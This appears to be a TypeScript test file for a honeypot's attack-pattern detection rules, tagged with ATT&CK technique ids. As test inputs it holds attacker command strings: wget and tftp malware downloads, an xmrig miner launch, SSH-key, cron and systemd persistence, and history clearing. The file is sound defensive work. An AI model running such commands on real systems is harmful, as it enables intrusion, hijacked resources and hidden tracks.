import { describe, it } from 'node:test';
import assert from 'node:assert/strict';
import { ATTACK_PATTERN_RULES, commandMatches, commandNames } from './attack-pattern-rules.js';
import { windowHolds } from './honeypot-store.js';
import { canonicalTimestamp } from './canonical-timestamp.js';
import { deterministicUuid } from './deterministic-uuid.js';

const rule = (id: string) => ATTACK_PATTERN_RULES.find((r) => r.id === id)!.match;

describe('attack-pattern rules', () => {
  it('splits command lines into simple command names past sudo, busybox and paths', () => {
    assert.deepEqual(commandNames('cd /tmp; /bin/busybox wget http://x/y.sh && sudo -n sh y.sh | grep a'), ['cd', 'wget', 'sh', 'grep']);
    assert.deepEqual(commandNames('LANG=C uname -a'), ['uname']);
  });

  it('matches the classic honeypot commands and not look-alikes', () => {
    assert.ok(commandMatches(rule('recon_commands'), 'cat /proc/cpuinfo | grep name | wc -l'));
    assert.ok(commandMatches(rule('recon_commands'), 'w'));
    assert.ok(!commandMatches(rule('recon_commands'), 'wget http://example.com/w'));
    assert.ok(commandMatches(rule('malware_download'), 'cd /tmp && wget http://1.2.3.4/bins.sh'));
    assert.ok(commandMatches(rule('malware_download'), 'busybox tftp -g 1.2.3.4 -r x'));
    assert.ok(commandMatches(rule('crypto_mining'), './xmrig -o stratum+tcp://pool:3333'));
    assert.ok(commandMatches(rule('persistence_ssh_key'), 'echo "ssh-rsa AAAA" >> ~/.ssh/authorized_keys'));
    assert.ok(commandMatches(rule('persistence_cron'), '(crontab -l; echo "* * * * * /tmp/x") | crontab -'));
    assert.ok(commandMatches(rule('persistence_startup'), 'systemctl enable miner.service'));
    assert.ok(commandMatches(rule('indicator_removal'), 'history -c; unset HISTFILE'));
    assert.ok(!commandMatches(rule('persistence_cron'), 'echo cron'));
  });

  it('every rule has an id, ATT&CK technique ids and a known scope', () => {
    assert.equal(new Set(ATTACK_PATTERN_RULES.map((r) => r.id)).size, ATTACK_PATTERN_RULES.length);
    for (const r of ATTACK_PATTERN_RULES) {
      assert.ok(r.techniques.length > 0 && r.techniques.every((t) => /^T\d{4}(\.\d{3})?$/.test(t)), r.id);
      assert.ok(r.scope === 'ip' || r.scope === 'session');
    }
  });

  it('brute-force window: N failures within the window, in any part of the history', () => {
    const t = (s: number) => new Date(Date.UTC(2026, 0, 1) + s * 1000).toISOString();
    assert.ok(windowHolds([t(0), t(1000), t(2000), t(2001), t(2002), t(2003), t(2004)], 5, 600));
    assert.ok(!windowHolds([t(0), t(700), t(1400), t(2100), t(2800)], 5, 600));
  });

  it('canonical timestamps and deterministic uuids', () => {
    assert.equal(canonicalTimestamp('2018-05-06T17:44:05.866769Z'), '2018-05-06T17:44:05.866769Z');
    assert.equal(canonicalTimestamp('2018-05-06 17:44:05.8+00'), '2018-05-06T17:44:05.800000Z');
    assert.equal(canonicalTimestamp('2018-05-06T19:44:05.123456+02:00'), '2018-05-06T17:44:05.123456Z');
    assert.equal(deterministicUuid('session', 'abc'), deterministicUuid('session', 'abc'));
    assert.notEqual(deterministicUuid('session', 'abc'), deterministicUuid('ip', 'abc'));
    assert.match(deterministicUuid('x', 'y'), /^[0-9a-f]{8}-[0-9a-f]{4}-8[0-9a-f]{3}-[89ab][0-9a-f]{3}-[0-9a-f]{12}$/);
  });
});
